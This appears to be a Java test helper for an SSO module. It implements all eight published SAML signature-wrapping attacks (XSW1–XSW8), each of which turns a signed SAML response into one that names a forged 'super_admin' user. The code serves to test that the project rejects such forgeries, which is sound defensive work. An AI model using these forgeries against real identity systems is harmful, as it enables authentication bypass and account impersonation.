package org.wardvoice.access.sso;

import com.onelogin.saml2.util.Util;
import java.util.UUID;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.Node;

/**
 * The eight ways to wrap a signed message into a forged one that are known by number (Somorovsky et al., "On Breaking
 * SAML"). The forged part names another person; the signed part stays where its signature finds it.
 */
public enum SignatureWrapping {
  XSW1 {
    @Override
    void wrap(Document document) {
      Element forged = forgedResponse(document);
      signature(forged).appendChild(document.importNode(original(document), true));
      replaceRoot(document, forged);
    }
  },
  XSW2 {
    @Override
    void wrap(Document document) {
      Element forged = forgedResponse(document);
      Node original = document.importNode(original(document), true);
      forged.insertBefore(original, signature(forged));
      replaceRoot(document, forged);
    }
  },
  XSW3 {
    @Override
    void wrap(Document document) {
      Element assertion = assertion(document);
      assertion.getParentNode().insertBefore(forgedAssertion(document, false), assertion);
    }
  },
  XSW4 {
    @Override
    void wrap(Document document) {
      Element assertion = assertion(document);
      Element forged = forgedAssertion(document, false);
      assertion.getParentNode().replaceChild(forged, assertion);
      forged.appendChild(assertion);
    }
  },
  XSW5 {
    @Override
    void wrap(Document document) {
      Element assertion = assertion(document);
      Element copy = (Element) assertion.cloneNode(true);
      copy.removeChild(signature(copy));
      forge(assertion);
      document.getDocumentElement().appendChild(copy);
    }
  },
  XSW6 {
    @Override
    void wrap(Document document) {
      Element assertion = assertion(document);
      Element copy = (Element) assertion.cloneNode(true);
      copy.removeChild(signature(copy));
      forge(assertion);
      signature(assertion).appendChild(copy);
    }
  },
  XSW7 {
    @Override
    void wrap(Document document) {
      Element extensions =
          document.createElementNS("urn:oasis:names:tc:SAML:2.0:protocol", "samlp:Extensions");
      Element assertion = assertion(document);
      assertion.getParentNode().insertBefore(extensions, assertion);
      extensions.appendChild(forgedAssertion(document, true));
    }
  },
  XSW8 {
    @Override
    void wrap(Document document) {
      Element assertion = assertion(document);
      Element copy = (Element) assertion.cloneNode(true);
      copy.removeChild(signature(copy));
      Element object = document.createElementNS("http://www.w3.org/2000/09/xmldsig#", "ds:Object");
      forge(assertion);
      signature(assertion).appendChild(object);
      object.appendChild(copy);
    }
  };

  private static final String ATTACKER = "super_admin@demo.example";

  abstract void wrap(Document document);

  /** A forged message of a signed one. */
  public String of(String xml) {
    Document document = Util.loadXML(xml);
    wrap(document);
    return Util.convertDocumentToString(document, false);
  }

  private static Element original(Document document) {
    Element copy = (Element) document.getDocumentElement().cloneNode(true);
    Node signature = signature(copy);
    copy.removeChild(signature);
    return copy;
  }

  /** With the signature of the original. */
  private static Element forgedResponse(Document document) {
    Element forged = (Element) document.getDocumentElement().cloneNode(true);
    forged.setAttribute("ID", "_" + UUID.randomUUID());
    forge(forged);
    return forged;
  }

  private static Element forgedAssertion(Document document, boolean signed) {
    Element forged = (Element) assertion(document).cloneNode(true);
    if (!signed) {
      forged.setAttribute("ID", "_" + UUID.randomUUID());
      forged.removeChild(signature(forged));
    }
    forge(forged);
    return forged;
  }

  private static void forge(Element element) {
    var values =
        element.getElementsByTagNameNS("urn:oasis:names:tc:SAML:2.0:assertion", "AttributeValue");
    values.item(0).setTextContent(ATTACKER);
  }

  private static Element assertion(Document document) {
    return (Element)
        document
            .getElementsByTagNameNS("urn:oasis:names:tc:SAML:2.0:assertion", "Assertion")
            .item(0);
  }

  /** The element's own. */
  private static Node signature(Element element) {
    for (Node node = element.getFirstChild(); node != null; node = node.getNextSibling()) {
      if ("Signature".equals(node.getLocalName())) {
        return node;
      }
    }
    throw new IllegalStateException("not signed");
  }

  private static void replaceRoot(Document document, Element root) {
    document.replaceChild(root, document.getDocumentElement());
  }
}
